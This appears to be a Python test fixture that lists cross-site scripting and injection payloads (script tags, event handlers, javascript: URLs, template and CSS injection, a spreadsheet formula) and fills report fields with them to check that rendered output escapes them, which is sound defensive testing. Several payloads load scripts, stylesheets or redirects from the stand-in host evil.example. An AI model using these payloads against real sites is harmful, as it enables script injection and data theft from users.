"""Texts that somebody may put into a data file to run in the reader's browser, and where to put them."""

from __future__ import annotations

import dataclasses
from typing import Any

from shipworthy.evals import review

__all__ = ["PAYLOADS", "filled"]

PAYLOADS = (
    "<script>pwned=1;alert(1)</script>",
    "</script><script>pwned=1;alert(1)</script>",
    "</style><script>pwned=1;alert(1)</script>",
    "</title><script>pwned=1;alert(1)</script>",
    "</textarea></noscript></template><script>pwned=1;alert(1)</script>",
    "<ScRiPt>pwned=1;alert(1)</sCrIpT>",
    "<scr<script>ipt>pwned=1;alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script\x20type='text/javascript'>pwned=1;alert(1)</script>",
    "<img src=x onerror=pwned=1;alert(1)>",
    "<img src='x' onerror='pwned=1;alert(1)'>",
    '"><img src=x onerror=pwned=1;alert(1)>',
    "'><img src=x onerror=pwned=1;alert(1)>",
    "<img/src=x/onerror=pwned=1;alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    '" onmouseover="pwned=1;alert(1)" x="',
    "' onfocus='pwned=1;alert(1)' autofocus tabindex=1 x='",
    "x onload=pwned=1;alert(1) y=",
    "` onerror=pwned=1;alert(1) `",
    "<svg onload=pwned=1;alert(1)>",
    "<svg><script>pwned=1;alert(1)</script></svg>",
    "</svg><svg onload=pwned=1;alert(1)>",
    "</desc></title></svg><img src=x onerror=pwned=1;alert(1)>",
    "<svg><animate onbegin=pwned=1;alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>top.pwned=1;alert(1)</script>'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1;alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1;alert(1)</script>'></iframe>",
    "<a href=javascript:pwned=1;alert(1) autofocus>x</a>",
    "javascript:pwned=1;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<body onload=pwned=1;alert(1)>",
    "<details open ontoggle=pwned=1;alert(1)>",
    "<input autofocus onfocus=pwned=1;alert(1)>",
    "<video><source onerror=pwned=1;alert(1)></video>",
    "<audio src=x onerror=pwned=1;alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    "--><script>pwned=1;alert(1)</script><!--",
    "]]><script>pwned=1;alert(1)</script>",
    "&lt;script&gt;pwned=1;alert(1)&lt;/script&gt;",
    "&#60;script&#62;pwned=1;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003epwned=1;alert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1epwned=1;alert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>pwned=1;alert(1)</scr\x00ipt>",
    "<\x0cscript>pwned=1;alert(1)</script>",
    "\u202e<script>pwned=1;alert(1)</script>\u2066",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "100%; } * { display: none; } url(https://evil.example/x)",
    "expression(pwned=1);background:url(javascript:alert(1))",
    "A" * 250,
    "\U0001f600" * 60 + "\u0300" * 60,
    '=HYPERLINK("https://evil.example","x")\r\n\t<script>pwned=1</script>',
)
"""Inert if escaped; each sets ``pwned``, opens a dialog or loads something otherwise."""

_DATA_KEYS = {
    item.name
    for kind in vars(review).values()
    if dataclasses.is_dataclass(kind)
    for item in dataclasses.fields(kind)
    if str(item.type).startswith("dict")
}
"""Fields whose keys are data (labels, file names, segment values) and not names of ours."""
_CLOSED = {"decision", "outcome", "severity", "origin", "unit", "kind", "schema", "at"}
"""Fields that hold one of a few words of ours."""


def filled(report: Any, text: str, *, everywhere: bool, name: str = "") -> Any:
    """The report with ``text`` in place of every string, in keys that are data too.

    Fields that hold one of our own words keep it unless ``everywhere``; with it they are hostile too.
    """
    if isinstance(report, str):
        return report if name in _CLOSED and not everywhere else text
    if isinstance(report, list):
        return [filled(item, text, everywhere=everywhere) for item in report]
    if isinstance(report, dict):
        return {
            f"{text} {i}" if name in _DATA_KEYS else key: filled(item, text, everywhere=everywhere, name=key)
            for i, (key, item) in enumerate(report.items())
        }
    return report
